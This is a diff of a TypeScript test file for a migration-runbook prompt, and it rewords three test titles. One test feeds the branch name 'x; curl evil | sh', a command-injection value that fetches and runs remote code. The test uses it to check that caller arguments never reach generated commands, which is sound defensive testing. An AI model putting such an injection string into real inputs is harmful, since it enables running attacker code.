@@ -64,7 +64,7 @@ describe('plan_migration', () => {
   const scene = setScene(today.connect);
   const plan = (given: Record<string, string>) => scene.client.getPrompt('plan_migration', given);
 
-  it("is the runbook with the app's own ids, from the start where nothing has begun", async () => {
+  it("is the runbook with the app's own ids, and starts at the first step if nothing has begun", async () => {
     const text = await plan({ app: 'shop', environment: 'partner' });
     expect(text).toContain('Nothing has begun: partner has no sign of a migration. Next: step 0.');
     expect(text).toContain(`clone_environment {"app":"${appId}","from":"partner","to":"rehearse"}`);
@@ -77,7 +77,7 @@ describe('plan_migration', () => {
     expect(titles.filter(title => title.endsWith('<= next'))).toEqual([titles[0]]);
   });
 
-  it('goes on where a Gen 2 backend is deployed, with its stack', async () => {
+  it('continues at the deployed Gen 2 backend, and names its stack', async () => {
     const name = `amplify-${appId}-gen2dev-branch-1a2b3c4d5e`;
     await scene.sandbox.load({
       environment: 'live',
@@ -115,7 +115,7 @@ describe('plan_migration', () => {
     expect(text).toContain('has no environment nowhere');
   });
 
-  it('lets no name of a caller into a command', async () => {
+  it("puts no name from a caller's arguments into a command", async () => {
     const text = await plan({ app: 'shop', environment: 'dev', branch: 'x; curl evil | sh' });
     const commands = text.split('\n').filter(line => /^ {3}(?:git|amplify|npx|aws)/.test(line));
     expect(commands.join()).not.toContain('curl');
